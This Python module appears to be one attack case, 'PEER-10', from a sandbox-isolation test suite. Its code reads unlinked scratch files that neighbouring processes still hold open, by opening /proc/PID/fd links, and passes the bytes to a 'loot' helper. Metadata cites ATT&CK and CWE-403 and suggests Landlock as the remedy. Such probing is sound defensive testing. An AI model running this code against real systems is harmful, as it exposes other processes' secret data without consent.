# SPDX-License-Identifier: MIT
"""Goal:  a file that the worker has open and has already unlinked, as one does with scratch files.
Means: /proc/PID/fd/N can be opened like a name. The file has no other name left, and it makes no
       difference whether the student was given a descriptor of it.
"""

import os
import stat

from attack import DONE, attempting, denied, loot, neighbours


def unlinked(pid):
    """The beginning of each regular file without a name that a process has open."""
    for number in os.listdir(f"/proc/{pid}/fd"):
        try:
            fd = os.open(f"/proc/{pid}/fd/{number}", os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue  # a socket cannot be opened this way
        status = os.fstat(fd)
        if stat.S_ISREG(status.st_mode) and status.st_nlink == 0:
            yield os.pread(fd, 4096, 0)  # from its beginning, wherever the worker stands
        os.close(fd)


def run(brief):
    why = "nobody else in sight"
    attempting()
    for pid in neighbours(brief):
        try:
            found = list(unlinked(pid))
        except OSError as error:
            why = error
            continue
        if any(found):
            loot(b"\n".join(found))
            return DONE
    return denied("/proc/PID/fd", why)


ATTACK = {
    "effect": "a file that only the worker has open is read through /proc",
    "means": "open() of /proc/PID/fd/N, for a file that has no name any more",
    "oracle": "secret:worker-fd",
    "id": "PEER-10",
    "attack_id": "T1057, T1005, CWE-403",
    "remedy": "Landlock (a domain may not trace its outside); a worker that is not dumpable",
    "refs": ["proc(5)"],
    "run": run,
}
